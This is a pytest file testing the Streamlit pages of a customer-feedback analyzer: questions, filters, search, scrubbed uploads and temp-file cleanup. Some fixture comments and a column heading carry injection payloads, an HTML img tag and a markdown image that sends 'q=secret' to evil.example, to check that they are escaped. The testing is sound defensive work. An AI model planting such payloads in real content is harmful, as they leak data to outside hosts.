"""Each page over a real store with fake models, without a browser."""

import re
import shutil
from types import SimpleNamespace

import pytest
import streamlit as st
from fakes import OPEN_DOOR, make_workspace, write_csv
from streamlit.runtime.caching import clear_session_resource_cache
from streamlit.testing.v1 import AppTest

from analyzer.config import PROJECT
from analyzer.errors import ModelError
from analyzer.ui import session

IMAGE = "The parcel came late <img src=http://evil.example/x"
MARKDOWN = "The parcel came late ![x](http://evil.example/?q=secret)."
ROWS = [
    {"id": "C-1", "comment": "The parcel came late.", "channel": "email", "rating": 2, "date": "2024-01-05"},
    {"id": "C-2", "comment": IMAGE, "channel": "app", "rating": 1, "date": "2024-01-06"},
    {
        "id": "C-3",
        "comment": "The parcel came late, says Ann Lee.",
        "channel": "app",
        "rating": 3,
        "date": "2024-02-07",
    },
    {"id": "C-4", "comment": "Waiter friendly, soup hot.", "channel": "store", "rating": 5, "date": "2024-02-08"},
    {"id": "C-5", "comment": MARKDOWN, "channel": "app", "rating": 4, "date": "2024-02-09"},
    *(
        {"id": f"N-{n}", "comment": f"Note {n}: all well.", "channel": "store", "rating": 5, "date": f"2024-03-{n:02d}"}
        for n in range(1, 16)
    ),
]
QUESTION = "Was the parcel late?"
HONEST = "The parcel came late."
ASK, COMMENTS, ADD, ADMIN = (f"analyzer/ui/pages/{name}_page.py" for name in ("ask", "comments", "add_data", "admin"))


@pytest.fixture
def held(tmp_path, monkeypatch):
    """The workspace that the page will open: empty, with fake models."""
    workspace = make_workspace(tmp_path)
    st.cache_resource.clear()
    monkeypatch.setattr(session, "Workspace", SimpleNamespace(open=lambda path, actor: workspace))
    monkeypatch.setattr(session, "authenticator_of", lambda path: OPEN_DOOR)
    yield workspace
    st.cache_resource.clear()
    workspace.close()


@pytest.fixture
def filled(held, tmp_path):
    held.ingest([write_csv(tmp_path / "feedback.csv", ROWS)])
    return held


def show(page=ASK):
    """Open the app on one page, and check that the page raised no exception."""
    app = AppTest.from_file(str(PROJECT / "app.py"), default_timeout=60).run()
    app.switch_page(page).run()
    assert not app.exception
    return app


def tab(app, title):
    """Open a tab of the page, as its address does."""
    app.query_params["part"] = app.session_state["part"] = title
    app.run()
    assert not app.exception
    return app


def html(app):
    """All the HTML that the page writes itself."""
    return "\n".join(element.proto.body for element in app.get("html"))


def type_filter(app, where):
    app.button(key="filter-open").click().run()
    next(t for t in app.text_input if t.label == "The filter as text").set_value(where).run()
    assert not app.exception
    return app


def as_table(app):
    app.segmented_control(key="search-view").set_value("Table").run()
    assert not app.exception
    return app.dataframe[0].value


def ask(app, question=QUESTION):
    next(t for t in app.text_input if t.label == "Question").set_value(question)
    next(b for b in app.button if b.label == "Ask").click()
    return app.run()


@pytest.mark.parametrize(("page", "title"), [(ASK, "Ask a question"), (COMMENTS, "Comments")])
def test_an_empty_workspace_says_what_to_do(held, page, title):
    app = show(page)
    assert [t.value for t in app.title] == [title]
    assert "There are no comments yet" in app.info[0].value
    assert not app.text_input


def test_adding_data_starts_with_an_invitation(held):
    app = show(ADD)
    assert [t.value for t in app.title] == ["Add data"]
    assert "Nothing is stored before you have seen how it will be read" in app.info[0].value
    assert not app.button


def test_the_side_bar_says_that_there_is_one_user_and_nothing_leaves(filled):
    captions = [caption.value for caption in show().sidebar.caption]
    assert captions[0].endswith("20 comments")
    assert "anyone who can open this page has full access" in captions[1]


def test_an_answer_is_shown_with_the_comments_behind_it(filled):
    filled.llm.always = HONEST
    app = ask(show())
    assert not app.exception
    assert 'The parcel came late <span class="fa-source">worded from ' in html(app)
    assert 'class="fa-point fa-' in html(app)
    next(b for b in app.button if b.label.startswith("Show all")).click()
    app.run()
    assert html(app).count('class="fa-comment">The <mark>parcel</mark>') == 4
    assert re.search(r"receipt a-[0-9a-f]{16}", html(app))
    assert "What people say · about “parcel late”" in html(app)


def test_what_a_comment_says_is_text_and_never_markup(filled):
    app = ask(show(), "Find comments about the parcel came late img src http evil example x")
    shown = html(app)
    assert "&lt;img src=http://evil.example/" in shown
    assert "<img" not in shown
    labels = [expander.label for expander in app.expander if "evil" in expander.label]
    assert len(labels) == 2
    assert not [label for label in labels if re.search(r"(?<!\\)[<!`*\[]", label.partition(" ")[2])]
    written = [element.value for element in (*app.markdown, *app.caption, *app.info, *app.error, *app.warning)]
    assert not [text for text in written if "evil.example" in text]


def test_a_lie_of_the_model_is_never_shown(filled):
    filled.llm.always = "People say 100 % of everything is a lie about <b>Ann Lee</b>."
    app = ask(show())
    everything = html(app) + "".join(element.value for element in (*app.markdown, *app.caption, *app.info))
    assert "lie about" not in everything
    assert "Ann Lee" not in everything
    assert 'class="fa-title">“The <mark>parcel</mark>' in html(app), "the point stays, with a quote as its title"


def test_an_empty_question_asks_for_one(filled):
    app = ask(show(), "  ")
    assert "Type a question first" in app.warning[0].value
    assert filled.llm.prompts == []


def test_the_newest_answer_stands_first(filled):
    filled.llm.always = HONEST
    app = ask(ask(show()), "Did the parcel come late?")
    asked = [text.value for text in app.text if "parcel" in text.value]
    assert [heading.value for heading in app.header] == ["Earlier questions"]
    assert asked == ["Did the parcel come late?", QUESTION]


def test_a_failing_model_is_one_line(filled, monkeypatch):
    def fail(*_):
        raise ModelError("the answering model failed; run: analyzer models fetch")

    monkeypatch.setattr(filled.llm, "complete", fail)
    app = ask(show())
    assert not app.exception
    assert [error.value.replace("\u2060\\", "") for error in app.error] == [
        "the answering model failed; run: analyzer models fetch"
    ]


@pytest.mark.parametrize("page", [ASK, COMMENTS])
def test_a_wrong_filter_is_said_beside_the_box_and_the_page_stays(filled, page):
    app = type_filter(show(page), "channel=app")
    shown = len(app.main)
    box = next(t for t in app.text_input if t.label == "The filter as text")
    box.set_value("shoe_size=44").run()
    assert not app.exception
    assert not app.error
    assert len(app.warning) == 1
    assert "shoe" in app.warning[0].value
    assert len(app.main) >= shown
    assert app.query_params["filter"] == "channel=app", "the filter before it is still in force"
    assert any("3 of 20 comments" in caption.value for caption in app.caption)


def test_the_widgets_make_the_filter_of_the_question(filled):
    app = show()
    app.button(key="filter-open").click().run()
    app.multiselect[0].set_value(["app"]).run()
    next(s for s in app.select_slider if s.label == "rating").set_range("1", "2").run()
    assert not app.exception
    chips = [one.label.replace("\u2060\\", "") for one in app.button if str(one.key).startswith("chip-")]
    assert chips == ["channel app", "rating 2 or lower"]
    assert any("1 of 20 comments" in caption.value for caption in app.caption)
    filled.llm.always = HONEST
    ask(app)
    assert "· channel app · rating 2 or lower" in html(app)
    figures = next(table.value for table in app.dataframe if "query" in table.value)
    assert next(iter(figures["figure"])) == "1"


def test_a_filter_is_kept_between_pages_and_a_chip_takes_it_back(filled):
    app = type_filter(show(ASK), "channel=app and rating<=3")
    app.switch_page(COMMENTS).run()
    assert app.query_params["filter"] == "channel=app and rating<=3"
    assert set(as_table(app).index) == {"C-2", "C-3"}
    app.button(key="chip-1-1").click().run()
    assert set(app.dataframe[0].value.index) == {"C-2", "C-3", "C-5"}
    assert app.query_params["filter"] == "channel=app"


def test_an_address_opens_the_page_as_it_was_filtered(filled):
    app = AppTest.from_file(str(PROJECT / "app.py"), default_timeout=60).run()
    app.switch_page(COMMENTS)
    app.query_params["filter"] = "channel=app"
    app.run()
    assert set(as_table(app).index) == {"C-2", "C-3", "C-5"}


def test_a_value_that_no_comment_has_is_answered_with_the_nearest_ones(filled):
    app = type_filter(show(COMMENTS), "channel=emial")
    assert any("No response has “emial” in channel. Did you mean:" in text.value for text in app.text)
    next(one for one in app.button if one.label == "email").click().run()
    assert list(as_table(app).index) == ["C-1"]


def test_comments_are_listed_as_cards_or_as_a_table_and_counted_by_a_column(filled):
    app = show(COMMENTS)
    assert html(app).count('class="fa-comment"') == 20
    table = as_table(app)
    assert list(table.index) == sorted(row["id"] for row in ROWS)
    assert table.loc["C-3", "text"] == "The parcel came late, says <PERSON_1>."
    assert "Count by" in [box.label for box in app.selectbox]
    assert len(app.get("vega_lite_chart") or app.get("arrow_vega_lite_chart")) == 1


def test_comments_are_counted_by_every_column_on_offer(filled):
    app = show(COMMENTS)
    box = next(one for one in app.selectbox if one.label == "Count by")
    for option in box.options:
        next(one for one in app.selectbox if one.label == "Count by").set_value(
            next(c for c in filled.status().columns if c.label == option)
        ).run()
        assert not app.exception, option
        assert not app.error, option


def search(app, words, mode="Meaning"):
    app.segmented_control(key="search-mode").set_value(mode)
    app.text_input(key="search").set_value(words).run()
    assert not app.exception
    return app


def test_words_that_match_are_highlighted_and_no_score_is_shown(filled):
    app = search(show(COMMENTS), "friendly waiter")
    assert "best matches among 20 comments" in "".join(one.value for one in app.caption)
    assert "<mark>Waiter</mark> <mark>friendly</mark>" in html(app)
    assert next(iter(as_table(app).index)) == "C-4"
    assert set(app.dataframe[0].value.columns) == {"text", "channel", "rating", "date"}


def test_an_exact_phrase_finds_what_is_written_and_nothing_else(filled):
    app = search(show(COMMENTS), "came late", "Exact phrase")
    assert set(as_table(app).index) == {"C-1", "C-2", "C-3", "C-5"}
    app = search(app, "late came", "Exact phrase")
    assert "No comment matches" in app.info[0].value
    app = search(app, "late came", "All words")
    assert set(as_table(app).index) == {"C-1", "C-2", "C-3", "C-5"}


def test_comments_say_when_nothing_matches(filled):
    app = type_filter(show(COMMENTS), "rating>5")
    assert "No comment matches" in app.info[0].value


def test_reports_offer_the_themes_and_every_stored_answer_as_files(filled):
    filled.themes.build(about=2, names=False)
    filled.ask("How many comments are there?")
    app = show("analyzer/ui/pages/reports_page.py")
    assert not app.error
    assert [one.proto.label for one in app.get("download_button")] == ["One page (HTML)", "Workbook (Excel)"] * 2
    assert "How many comments are there" in "".join(one.value for one in app.markdown).replace("\u2060\\", "")
    assert filled.themes.file("html").startswith(b"<!doctype html>")
    assert filled.themes.file("xlsx", "channel=app")[:2] == b"PK"
    events = [action for (action,) in filled.database.rows("SELECT action FROM audit")]
    assert events.count("themes.report") == 2


UPLOAD = b"id,comment,channel,phone_note\nD-1,The soup was cold says Ann Lee.,store,x\nD-2,Refund took weeks.,app,y\n"


def upload(name="more.csv", content=UPLOAD):
    app = show(ADD)
    app.file_uploader[0].set_value((name, content, "text/csv"))
    return app.run()


def test_an_upload_is_previewed_scrubbed_and_not_yet_stored(filled):
    app = upload()
    assert not app.exception
    assert not app.error
    preview = app.dataframe[0].value
    assert list(preview["column"]) == ["id", "comment", "channel", "phone_note"]
    assert "<PERSON_1>" in preview["examples, scrubbed"][1]
    assert "Ann Lee" not in preview.to_string()
    assert filled.feedback.matching() == 20


def test_an_upload_is_imported_as_its_columns_were_read(filled):
    app = upload()
    next(b for b in app.button if b.label == "Import").click().run()
    assert not app.exception
    assert not app.error
    assert app.success[0].value.startswith("2 comments stored in 2 new responses")
    assert {metric.label: metric.value for metric in app.metric} == {
        "Rows": "2", "New responses": "2", "Updated": "0", "Known already": "0", "Rejected": "0", "New comments": "2",
    }  # fmt: skip
    assert filled.feedback.show(["D-1"])[0].text == "The soup was cold says <PERSON_1>."


@pytest.fixture
def reads(filled, tmp_path, monkeypatch):
    """Record the previews made from an upload, its writes, and the folder of its file."""
    folder = tmp_path / "spool"
    folder.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(folder))
    previews, written = [], []
    real, copy = type(filled.imports).preview, shutil.copyfileobj
    monkeypatch.setattr(
        type(filled.imports), "preview", lambda self, *given: previews.append(given) or real(self, *given)
    )
    monkeypatch.setattr(shutil, "copyfileobj", lambda *given: written.append(given) or copy(*given))
    return SimpleNamespace(previews=previews, written=written, folder=folder)


def test_an_upload_is_written_and_read_once_however_often_one_clicks(filled, reads):
    app = upload(content=b"id,comment,notes\nD-1,Fine.,The staff at the counter could not have been kinder.\n")
    for names in (["notes"], ["comment"], ["notes"]):
        next(box for box in app.multiselect if box.label == "Comments").set_value(names).run()
        assert not app.exception
        assert app.dataframe
    assert (len(reads.previews), len(reads.written)) == (3, 1)  # as found, and each of two choices
    next(b for b in app.button if b.label == "Import").click().run()
    assert app.success[0].value.startswith("1 comments stored")
    assert (len(reads.previews), len(reads.written)) == (3, 1)


def test_an_upload_is_gone_when_it_is_replaced_removed_or_left(filled, reads):
    def lying():
        return sorted(file.name for file in reads.folder.glob("analyzer-upload-*/*"))

    app = upload("one.csv")
    assert lying() == ["one.csv"]
    app.file_uploader[0].set_value(("two.csv", UPLOAD, "text/csv")).run()
    assert lying() == ["two.csv"]
    app.file_uploader[0].set_value(None).run()
    assert lying() == []
    app.file_uploader[0].set_value(("three.csv", UPLOAD, "text/csv")).run()
    assert lying() == ["three.csv"]
    app.switch_page(COMMENTS).run()
    assert lying() == []
    assert list(reads.folder.iterdir()) == []


def test_an_upload_is_gone_when_access_ends(filled, reads, monkeypatch):
    app = upload("one.csv")
    monkeypatch.setattr(session, "account", lambda **_: "")
    app.run()
    assert "signed out" in app.error[0].value
    assert list(reads.folder.iterdir()) == []


def test_an_upload_is_gone_when_the_session_ends(filled, reads):
    upload("one.csv")
    assert len(list(reads.folder.iterdir())) == 1
    clear_session_resource_cache("test session id")  # what Streamlit does when a session ends
    assert list(reads.folder.iterdir()) == []


def test_the_roles_that_were_chosen_are_the_roles_that_are_used(filled):
    app = upload(content=b"id,comment,notes\nD-1,Fine.,The staff at the counter could not have been kinder to us.\n")
    next(box for box in app.multiselect if box.label == "Comments").set_value(["notes"]).run()
    next(b for b in app.button if b.label == "Import").click().run()
    assert not app.exception
    assert not app.error
    assert filled.feedback.show(["D-1"])[0].text.startswith("The staff at the counter")


def test_a_file_that_cannot_be_read_is_one_line(held):
    app = upload("broken.xlsx", b"this is no workbook")
    assert not app.exception
    assert len(app.error) == 1
    assert "Traceback" not in app.error[0].value
    assert held.feedback.matching() == 0


def test_a_first_import_fills_an_empty_workspace(held):
    app = upload()
    next(b for b in app.button if b.label == "Import").click().run()
    assert not app.exception
    assert held.feedback.matching() == 2


def test_column_headings_are_text_and_never_markup(held, tmp_path):
    heading = "![x](http://evil.example/h) <b>where</b>"
    rows = [
        {"comment": f"The parcel came late again, number {n}.", heading: ("north", "south")[n % 2]} for n in range(12)
    ]
    held.ingest([write_csv(tmp_path / "odd.csv", rows)], {"keep": heading})
    app = show()
    app.button(key="filter-open").click().run()
    [menu] = app.multiselect
    assert "![x](" not in menu.label
    assert menu.label.replace("\u2060\\", "") == heading


def test_a_workspace_that_is_not_there_is_one_line(tmp_path, monkeypatch):
    st.cache_resource.clear()
    monkeypatch.setenv("ANALYZER_WORKSPACE", str(tmp_path / "nowhere"))
    app = AppTest.from_file(str(PROJECT / "app.py"), default_timeout=60).run()
    assert not app.exception
    assert "analyzer init" in app.error[0].value.replace("\u2060\\", "")


def test_after_an_import_a_question_is_one_click_away_and_the_imports_are_listed(filled):
    app = upload()
    next(b for b in app.button if b.label == "Import").click().run()
    assert [one.value for one in app.header] == ["What next", "Masked as people"][: len(app.header)]
    question = filled.overview.show().questions[0]
    next(b for b in app.button if b.label.replace("\u2060\\", "") == question).click().run()
    assert not app.exception
    assert app.title[0].value == "Ask a question"
    assert next(one.question for one in filled.answers.history()) == question
    listed = show(ADD).dataframe[0].value
    assert (listed["file"][0], listed["new responses"][0]) == ("more.csv", 2)


def test_values_masked_as_people_are_confirmed_with_one_click(filled):
    rows = b"id,comment\n" + b"".join(b"Z-%d,The man at desk %d was called Zorblax today.\n" % (n, n) for n in range(3))
    app = upload(content=rows)
    next(b for b in app.button if b.label == "Import").click().run()
    waiting = [one for one in filled.privacy.queue(50).entries if (one.kind, one.type) == ("masked", "PERSON")]
    buttons = [b for b in app.button if b.label.startswith("Confirm all")]
    assert len(buttons) == bool(waiting)
    if waiting:
        buttons[0].click().run()
        assert not app.exception
        assert not [one for one in filled.privacy.queue(50).entries if (one.kind, one.type) == ("masked", "PERSON")]
